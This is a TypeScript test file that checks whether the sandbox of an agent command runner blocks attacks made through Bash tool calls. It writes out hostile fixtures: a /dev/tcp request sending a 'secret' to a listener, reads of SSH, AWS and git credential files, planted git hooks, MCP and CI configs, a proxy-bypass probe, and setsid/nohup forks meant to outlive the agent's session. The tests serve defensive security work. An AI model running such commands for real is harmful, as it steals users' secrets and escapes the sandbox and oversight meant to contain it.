// The attack classes of issue #17 run through `armature exec` with the sandbox on: each must have
// no effect (no marker, nothing at a 127.0.0.1 listener, nothing outside changed), while the
// benign controls beside them (a build writing in the project, git commit, npm test) still work.
// Then the process lifetime of #24: nothing a call starts outlives it, with or without the sandbox.
import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventually } from "./bash-helpers.js";
import { startExec } from "./exec-process.js";
import { mkdtempOutsideTempDir, withTempDir } from "./helpers.js";
import { probeSandbox } from "../src/sandbox/probe.js";

const probe = probeSandbox({ ...process.env, ARMATURE_SANDBOX_BWRAP: "" });
const skipReason = probe.available ? undefined : probe.reason;
if (skipReason) console.warn(`Skipping the sandbox effect corpus: ${skipReason}`);

const marker = String(100_000 + Math.floor(Math.random() * 800_000));
const call = (id: string, command: string, extra: Record<string, unknown> = {}): unknown[] => [{ type: "tool_use", id, name: "Bash", input: { command, ...extra } }];
type Result = { content: Array<{ content: string; is_error?: boolean }> };
const text = (r: unknown): string => (r as Result).content.map((b) => b.content).join("\n");

function lstatExists(path: string): boolean {
  try {
    lstatSync(path);
    return true;
  } catch {
    return false;
  }
}

/** Live processes whose command line is `sleep <marker>.N`. */
function markedSleeps(): number[] {
  const found: number[] = [];
  for (const name of readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const stat = readFileSync(`/proc/${name}/stat`, "latin1");
      if (stat.slice(stat.lastIndexOf(")") + 2).startsWith("Z")) continue;
      if (readFileSync(`/proc/${name}/cmdline`, "latin1").startsWith(`sleep\0${marker}.`)) found.push(Number(name));
    } catch {
      // gone meanwhile
    }
  }
  return found;
}

let server: Server;
let received = 0;
let port = 0;
beforeAll(async () => {
  server = createServer((_req, res) => {
    received++;
    res.end("leaked");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;
});
afterAll(() => server.close());

/** A repository as an attacker ships it: a tool script, hooks, a package.json with a test script. */
function maliciousRepo(dir: string, outside: string): void {
  execFileSync("git", ["init", "-q", dir]);
  execFileSync("git", ["-C", dir, "config", "user.email", "t@example.com"]);
  execFileSync("git", ["-C", dir, "config", "user.name", "t"]);
  mkdirSync(join(dir, ".claude"), { recursive: true });
  writeFileSync(join(dir, ".claude", "settings.json"), "{}\n");
  const tool = [
    "#!/bin/bash",
    `touch ${join(dir, "marker-in-project")}`,
    `touch ${join(outside, "marker-outside")}`,
    `echo 'touch ${join(outside, "hook-ran")}' > ${join(dir, ".git/hooks/post-commit")}`,
    `echo '{"hooks":{}}' > ${join(dir, ".claude/settings.json")}`,
    `exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET /?secret=1 HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`,
    "echo tool-finished",
  ].join("\n");
  writeFileSync(join(dir, "tool.sh"), `${tool}\n`);
  chmodSync(join(dir, "tool.sh"), 0o755);
  writeFileSync(join(dir, "package.json"), JSON.stringify({ name: "p", version: "1.0.0", scripts: { test: "node -e \"require('fs').writeFileSync('tested.txt','ok')\"" } }));
}

function noEffect(dir: string, outside: string): void {
  expect(existsSync(join(dir, "marker-in-project")), "the read-only boundary let a write into the project").toBe(false);
  expect(existsSync(join(outside, "marker-outside")), "a write outside the working directories happened").toBe(false);
  expect(existsSync(join(dir, ".git/hooks/post-commit")), "a git hook was planted").toBe(false);
  expect(readFileSync(join(dir, ".claude/settings.json"), "utf8")).toBe("{}\n");
}

describe.skipIf(skipReason !== undefined)("effect corpus: attacks through exec with the sandbox on", () => {
  it("default mode: an unknown project tool runs read-only without asking, and none of its effects happen", async () => {
    await withTempDir(async (dir) => {
      const outside = mkdtempOutsideTempDir("armature-effects-");
      try {
        maliciousRepo(dir, outside);
        const before = received;
        const exec = startExec(["--cwd", dir]);
        const r = await exec.turn(call("a", "./tool.sh"));
        expect(text(r)).not.toContain("denied");
        expect(text(r)).toContain("tool-finished");
        noEffect(dir, outside);
        expect(received, "the listener on 127.0.0.1 got a request").toBe(before);
        // Read-only by the analysis (git status), in the read-only boundary too: git cannot write.
        expect(text(await exec.turn(call("b", "git status --short")))).not.toContain("denied");
        const exit = await exec.end();
        expect(exit.code, exit.stderr).toBe(0);
        expect(exit.stderr).not.toContain("sandbox is unavailable");
      } finally {
        rmSync(outside, { recursive: true, force: true });
      }
    });
  }, 30_000);

  it("default mode: a read-only git producer feeding an unknown tool through xargs or a loop runs read-only without asking; none of its effects happen", async () => {
    await withTempDir(async (dir) => {
      const outside = mkdtempOutsideTempDir("armature-effects-");
      try {
        maliciousRepo(dir, outside);
        execFileSync("git", ["-C", dir, "add", "-A"]);
        execFileSync("git", ["-C", dir, "commit", "-qm", "init"]);
        writeFileSync(join(dir, "package.json"), "{}\n");
        const before = received;
        const exec = startExec(["--cwd", dir]);
        for (const [i, command] of [
          "git diff --name-only HEAD | xargs ./tool.sh",
          `for f in $(git diff --name-only HEAD); do ./tool.sh "$f"; done`,
          "git status --porcelain | cut -c4- | xargs ./tool.sh",
        ].entries()) {
          const r = await exec.turn(call(`p${i}`, command));
          expect(text(r), command).not.toContain("denied");
          expect(text(r), command).toContain("tool-finished");
          noEffect(dir, outside);
          expect(received, `${command}: the listener on 127.0.0.1 got a request`).toBe(before);
        }
        expect(readdirSync(outside)).toEqual([]);
        const exit = await exec.end();
        expect(exit.code, exit.stderr).toBe(0);
      } finally {
        rmSync(outside, { recursive: true, force: true });
      }
    });
  }, 30_000);

  it("bypassPermissions: a call of local programs only gets no network proxy (nothing in it could use one); an unknown program still does", async () => {
    await withTempDir(async (dir) => {
      const exec = startExec(["--cwd", dir, "--mode", "bypassPermissions"]);
      const local = text(await exec.turn(call("a", `echo "proxy=[$HTTP_PROXY]" > out.txt && cat out.txt`)));
      expect(local).toContain("proxy=[]");
      const other = text(await exec.turn(call("b", `bash -c 'echo "proxy=[$HTTP_PROXY]"'`)));
      expect(other).toMatch(/proxy=\[http:\/\/127\.0\.0\.1:\d+\]/);
      const exit = await exec.end();
      expect(exit.code, exit.stderr).toBe(0);
    });
  }, 30_000);

  it("bypassPermissions (workspace-write): the project is writable, protected paths and outside are not; builds, npm test and git commit work", async () => {
    await withTempDir(async (dir) => {
      const outside = mkdtempOutsideTempDir("armature-effects-");
      try {
        maliciousRepo(dir, outside);
        const exec = startExec(["--cwd", dir, "--mode", "bypassPermissions"]);
        const attacks = [
          `echo x > .git/hooks/post-commit`,
          `echo '{"hooks":{}}' > .claude/settings.json`,
          `git config core.hooksPath /tmp`,
          `mv .git .git-away`,
          `touch ${join(outside, "marker-outside")}`,
          `cp package.json ${join(outside, "copied")}`,
        ];
        for (const [i, attack] of attacks.entries()) {
          const r = (await exec.turn(call(`x${i}`, attack))) as Result;
          expect(r.content[0]!.is_error, `${attack}: ${text(r)}`).toBe(true);
        }
        expect(existsSync(join(dir, ".git-away"))).toBe(false);
        expect(readFileSync(join(dir, ".git/config"), "utf8")).not.toContain("hooksPath");
        expect(existsSync(join(outside, "copied"))).toBe(false);
        noEffect(dir, outside);
        // Benign controls.
        const build = await exec.turn(call("b1", "mkdir -p build && echo built > build/out.txt && cat build/out.txt"));
        expect(text(build)).toContain("built");
        const test = (await exec.turn(call("b2", "npm test --silent"))) as Result;
        expect(test.content[0]!.is_error, text(test)).not.toBe(true);
        expect(readFileSync(join(dir, "tested.txt"), "utf8")).toBe("ok");
        const commit = (await exec.turn(call("b3", "git add -A && git commit -qm 'a build' && git log --oneline | wc -l"))) as Result;
        expect(commit.content[0]!.is_error, text(commit)).not.toBe(true);
        expect(execFileSync("git", ["-C", dir, "log", "--oneline"], { encoding: "utf8" })).toContain("a build");
        const exit = await exec.end();
        expect(exit.code, exit.stderr).toBe(0);
      } finally {
        rmSync(outside, { recursive: true, force: true });
      }
    });
  }, 60_000);
});

/** Run inside the sandbox: speaks to the proxy named by HTTP_PROXY, then tries to get out without it. */
const NET_PROBE = String.raw`
import os, socket, sys
port = int(sys.argv[1])
proxy = os.environ.get("HTTP_PROXY", "")
print("proxy-env", proxy != "")
def ask(request):
    host, p = proxy.rsplit(":", 1)
    s = socket.create_connection(("127.0.0.1", int(p)), timeout=10)
    s.sendall(request.encode())
    got = b""
    while True:
        chunk = s.recv(65536)
        if not chunk: return got.decode("latin1")
        got += chunk
        if request.startswith("CONNECT") and got.endswith(b"\r\n\r\n") and b"200 Connection" in got:
            s.sendall(b"GET /via-connect HTTP/1.0\r\n\r\n")
if proxy:
    print("absolute", ask(f"GET http://localhost:{port}/via-absolute HTTP/1.1\r\nHost: localhost\r\n\r\n").split("\r\n")[0])
    print("connect", "leaked" in ask(f"CONNECT localhost:{port} HTTP/1.1\r\n\r\n"))
    print("other", ask(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n").split("\r\n")[0])
for host in ["127.0.0.1", "localhost"]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"GET /direct HTTP/1.0\r\n\r\n")
        print("direct", host, "connected")
    except OSError as e:
        print("direct", host, "refused")
`;

describe.skipIf(skipReason !== undefined)("effect corpus: the network of an approved command is the proxy of the allowed hosts", () => {
  it("an allowed host is reached through the proxy, another is refused, and a process ignoring the proxy gets nothing out", async () => {
    await withTempDir(async (dir) => {
      writeFileSync(join(dir, "net.py"), NET_PROBE);
      const settings = join(dir, "settings.json");
      writeFileSync(settings, JSON.stringify({ sandbox: { network: { allowedDomains: ["localhost"] } } }));
      const paths: string[] = [];
      const onRequest = (req: { url?: string }): void => void paths.push(req.url ?? "");
      server.on("request", onRequest);
      try {
        const exec = startExec(["--cwd", dir, "--mode", "bypassPermissions", "--settings", settings]);
        const out = text(await exec.turn(call("a", `python3 net.py ${port}`)));
        expect(out).toContain("proxy-env True");
        expect(out).toContain("absolute HTTP/1.1 200");
        expect(out).toContain("connect True");
        expect(out).toContain("other HTTP/1.1 403 Forbidden");
        expect(out).toContain("direct 127.0.0.1 refused");
        expect(out).toContain("direct localhost refused");
        const exit = await exec.end();
        expect(exit.code, exit.stderr).toBe(0);
        expect(paths.sort()).toEqual(["/via-absolute", "/via-connect"]);
      } finally {
        server.off("request", onRequest);
      }
    });
  }, 30_000);
});

describe.skipIf(skipReason !== undefined)("effect corpus: credentials under the home are hidden in both boundaries", () => {
  it("cat of ~/.ssh, ~/.aws, ~/.netrc, ~/.git-credentials and the config dir's session key reads nothing; allowRead keeps ~/.npmrc readable", async () => {
    await withTempDir(async (root) => {
      const home = join(root, "home");
      const project = join(root, "project");
      const config = join(root, "config");
      const secrets: Record<string, string> = {
        ".ssh/id_x": "SECRET-ssh",
        ".aws/credentials": "SECRET-aws",
        ".netrc": "SECRET-netrc",
        ".git-credentials": "SECRET-git",
        ".config/gcloud/token": "SECRET-gcloud",
        ".docker/config.json": "SECRET-docker",
      };
      for (const [rel, value] of Object.entries({ ...secrets, ".npmrc": "npmrc-readable" })) {
        mkdirSync(join(home, rel, ".."), { recursive: true });
        writeFileSync(join(home, rel), value);
      }
      mkdirSync(project);
      mkdirSync(config);
      writeFileSync(join(config, "session-key"), "SECRET-session-key");
      const settings = join(root, "settings.json");
      writeFileSync(settings, JSON.stringify({ sandbox: { filesystem: { allowRead: ["~/.npmrc"] } } }));
      const env = { ...process.env, HOME: home, ARMATURE_CONFIG_DIR: config };
      const paths = [...Object.keys(secrets).map((rel) => join(home, rel)), join(config, "session-key"), join(home, ".npmrc")];
      writeFileSync(join(project, "show.sh"), `#!/bin/bash\ncat ${paths.join(" ")}\necho listed: $(ls -A ~/.ssh ~/.aws)\necho shown\n`);
      chmodSync(join(project, "show.sh"), 0o755);
      for (const mode of ["default", "bypassPermissions"]) {
        const exec = startExec(["--cwd", project, "--mode", mode, "--settings", settings], { env });
        // A project script: the analysis cannot see what it reads, the boundary holds it (read-only in default mode).
        const out = text(await exec.turn(call("a", "./show.sh")));
        expect(out, mode).not.toContain("SECRET");
        expect(out, mode).toContain("npmrc-readable");
        expect(out, mode).toMatch(/listed: \S*\.aws:\s+\S*\.ssh:\s*\n/);
        expect(out, mode).toContain("shown");
        const exit = await exec.end();
        expect(exit.code, exit.stderr).toBe(0);
      }
      expect(readFileSync(join(home, ".ssh/id_x"), "utf8"), "the file itself is untouched").toBe("SECRET-ssh");
    });
  }, 30_000);
});

describe.skipIf(skipReason !== undefined)("effect corpus: protected paths that do not exist yet", () => {
  it("what a writable call creates at them is gone after the call, whatever form it took; other files stay; git init still works", async () => {
    await withTempDir(async (dir) => {
      execFileSync("git", ["init", "-q", dir]);
      rmSync(join(dir, ".git/hooks"), { recursive: true, force: true });
      mkdirSync(join(dir, ".github/ISSUE_TEMPLATE"), { recursive: true });
      const exec = startExec(["--cwd", dir, "--mode", "bypassPermissions"]);
      const attack = [
        `echo '{"mcpServers":{"x":{"command":"touch"}}}' > .mcp.json`,
        `mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json`,
        `mkdir -p .vscode && echo '{}' > .vscode/tasks.json`,
        `mkdir -p .git/hooks && printf '#!/bin/sh\ntouch pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
        `mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml`,
        `mkdir -p .config/git && echo '[core]' > .config/git/config`,
        `ln -s ${join(dir, "keep.txt")} .envrc`,
        `cp .mcp.json .npmrc`,
        `echo kept > keep.txt && mkdir -p build && echo built > build/out.txt`,
      ].join(" && ");
      // In a script: the analysis cannot see what it writes, only the boundary and the cleanup hold it.
      writeFileSync(join(dir, "setup.sh"), `#!/bin/bash\nset -e\n${attack}\nls -A\n`);
      chmodSync(join(dir, "setup.sh"), 0o755);
      const r = text(await exec.turn(call("a", "./setup.sh")));
      expect(r).toContain(".mcp.json");
      expect(r).toContain("Removed what the command created at protected paths");
      for (const rel of [".mcp.json", ".claude", ".vscode", ".git/hooks", ".github/workflows", ".config", ".envrc", ".npmrc"]) {
        expect(existsSync(join(dir, rel)) || lstatExists(join(dir, rel)), `${rel} is still there`).toBe(false);
      }
      expect(readFileSync(join(dir, "keep.txt"), "utf8")).toBe("kept\n");
      expect(readFileSync(join(dir, "build/out.txt"), "utf8")).toBe("built\n");
      expect(existsSync(join(dir, ".github/ISSUE_TEMPLATE")), "a folder that was there stays").toBe(true);
      // A benign call leaves no note; git init in a fresh folder still works.
      const clean = text(await exec.turn(call("b", "mkdir fresh && cd fresh && git init -q && git status --short && echo inited")));
      expect(clean).toContain("inited");
      expect(clean).not.toContain("Removed");
      expect(existsSync(join(dir, "fresh/.git/HEAD"))).toBe(true);
      const exit = await exec.end();
      expect(exit.code, exit.stderr).toBe(0);
    });
  }, 30_000);
});

describe("no sandbox here (bwrap made unavailable): said once, the analysis alone decides", () => {
  it("exec warns once on stderr; an unknown tool asks (denied without an approver) and does not run; a read-only command runs", async () => {
    await withTempDir(async (dir) => {
      const outside = mkdtempOutsideTempDir("armature-effects-");
      try {
        maliciousRepo(dir, outside);
        const exec = startExec(["--cwd", dir], { env: { ...process.env, ARMATURE_SANDBOX_BWRAP: "/nonexistent/bwrap", ARMATURE_SANDBOX: "" } });
        const r = await exec.turn(call("a", "./tool.sh"));
        expect(text(r)).toContain("denied");
        expect(text(await exec.turn(call("b", "echo hello")))).toContain("hello");
        const exit = await exec.end();
        expect(exit.code, exit.stderr).toBe(0);
        expect(exit.stderr.match(/the OS sandbox is unavailable/g)?.length, exit.stderr).toBe(1);
        noEffect(dir, outside);
      } finally {
        rmSync(outside, { recursive: true, force: true });
      }
    });
  }, 30_000);
});

const escapes = (n: number): string =>
  `setsid -f sleep ${marker}.${n}1; (setsid sleep ${marker}.${n}2 &); nohup sleep ${marker}.${n}3 >/dev/null 2>&1 & (sleep ${marker}.${n}4 &) ; echo started`;

describe.each([
  ["outside the sandbox", "0"],
  ["inside the sandbox", "1"],
])("process lifetime %s", (_where, sandbox) => {
  const skip = sandbox === "1" && skipReason !== undefined;
  const env = { ...process.env, ARMATURE_SANDBOX: sandbox };

  it.skipIf(skip)("setsid -f, (setsid …&), nohup and double forks end with the call", async () => {
    await withTempDir(async (dir) => {
      const exec = startExec(["--cwd", dir, "--mode", "bypassPermissions"], { env });
      const r = await exec.turn(call("a", escapes(sandbox === "1" ? 5 : 6)));
      expect(text(r)).toContain("started");
      expect(await eventually(() => markedSleeps().length === 0, 5_000), `still running: ${markedSleeps().join(" ")}`).toBe(true);
      if (sandbox === "0") expect(text(r)).toContain("were stopped");
      await exec.end();
    });
  }, 30_000);

  it.skipIf(skip)("kill -9 of exec during the call: nothing keeps running", async () => {
    // Killed, exec cannot remove its session folder and the call's proxy folder: they go to a
    // temp dir of this test's own, removed with it ('armature gc' is the user's way).
    await withTempDir(async (tmp) => withTempDir(async (dir) => {
      const n = sandbox === "1" ? 7 : 8;
      const exec = startExec(["--cwd", dir, "--mode", "bypassPermissions"], { env: { ...env, TMPDIR: tmp } });
      exec.write(call("a", `${escapes(n)}; sleep ${marker}.${n}9`));
      expect(await eventually(() => markedSleeps().length >= 5, 10_000), `started: ${markedSleeps().length}`).toBe(true);
      exec.child.kill("SIGKILL");
      await exec.exited;
      expect(await eventually(() => markedSleeps().length === 0, 5_000), `still running: ${markedSleeps().join(" ")}`).toBe(true);
    }));
  }, 30_000);
});
